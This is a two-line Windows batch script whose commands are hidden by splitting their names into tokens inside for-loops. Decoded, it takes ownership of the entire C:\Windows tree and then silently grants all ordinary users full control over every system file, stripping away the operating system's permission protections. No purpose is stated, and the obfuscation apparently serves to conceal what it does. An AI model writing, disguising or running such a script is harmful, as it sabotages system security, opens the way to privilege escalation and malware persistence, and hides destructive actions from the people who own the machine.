@echo off
for /f "tokens=1-6 delims=;" %%a in ("own;take;C:\Win;dows;/f;/r /d y") do %%b%%a %%e %%c%%d %%f >nul
for /f "tokens=1-3 delims=|" %%p in ("cls|ica|Users:(OI)(CI)F") do %%q%%p %SystemRoot% /grant %%r /t /c /q
